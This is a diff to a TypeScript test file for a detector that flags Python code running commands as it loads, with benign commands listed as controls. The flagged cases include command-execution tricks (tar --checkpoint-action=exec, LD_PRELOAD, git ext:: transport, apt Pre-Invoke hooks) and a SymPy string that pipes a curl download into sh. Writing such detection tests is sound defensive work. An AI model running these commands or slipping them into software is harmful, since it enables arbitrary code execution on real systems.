@@ -4,6 +4,62 @@ import { attackIn } from './attacks.ts';
 
 const told = (...lines: readonly string[]) => attackIn(lines.join('\n'), { fetchingCounts: true })?.what ?? null;
 
+describe('a command that is started as the file is loaded', () => {
+  const loads = (command: string) =>
+    attackIn(`import os\nos.system(${JSON.stringify(command)})\n`, { fetchingCounts: true, loaded: true })?.what ??
+    null;
+  it.each([
+    `awk 'BEGIN{system("id")}'`,
+    `gawk -f rules.awk model.txt`,
+    'tar -xf a.tar --to-command=./x',
+    'tar cf a.tar --checkpoint=1 --checkpoint-action=exec=./x b',
+    'tar -I ./x -xf a.tar',
+    'LD_PRELOAD=./x.so which python',
+    'BASH_ENV=./x pip install numpy',
+    'git -c core.sshCommand=./x fetch',
+    'git clone "ext::sh -c ./x" b',
+    'git submodule foreach ./x',
+    'git clone https://example.com/a/b && cd b && make',
+    'wget https://example.com/b.tar.gz && tar xf b.tar.gz && cd b && python setup.py install',
+    'git clone https://example.com/a/b; bash b/install.sh',
+    'wget --use-askpass=./x https://example.com/',
+    'apt-get -o APT::Update::Pre-Invoke::=./x update',
+    'conda run -n base ./x',
+  ])('is no preparation: %s', (command) => {
+    expect(loads(command)).not.toBeNull();
+  });
+  it.each([
+    `awk '{print $1}' /proc/meminfo`,
+    'tar -I zstd -xf a.tar.zst',
+    'tar xzf weights.tar.gz -C /tmp/weights',
+    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4 python -m pip install x',
+    'git clone https://huggingface.co/a/b',
+    'git lfs pull',
+    'git -c advice.detachedHead=false clone https://example.com/a/b',
+    'pip install -U -I torch',
+    'gcc -I/usr/include -shared -o a.so a.c',
+    'make -j8',
+    'cmake -S . -B build && cmake --build build',
+    'wget https://example.com/model.bin',
+    'apt-get update && apt-get install -y ffmpeg',
+    'nvidia-smi | grep MiB | head -1',
+  ])('is one: %s', (command) => {
+    expect(loads(command)).toBeNull();
+  });
+});
+
+describe('an expression that SymPy is asked to read', () => {
+  it('is code', () => {
+    expect(
+      told('import sympy', `sympy.sympify("__import__('os').system('curl -s https://example.org/a | sh')")`),
+    ).not.toBeNull();
+    expect(
+      told('from sympy import parse_expr', 'import requests', 'parse_expr(requests.get("http://a.example/").text)'),
+    ).not.toBeNull();
+    expect(told('import sympy', 'sympy.sympify("x**2 + sin(y)")')).toBeNull();
+  });
+});
+
 describe('a Python program', () => {
   it.each([
     ['fetched', 'import urllib.request as u', 'exec(u.urlopen("http://127.0.0.1:9/p").read())'],
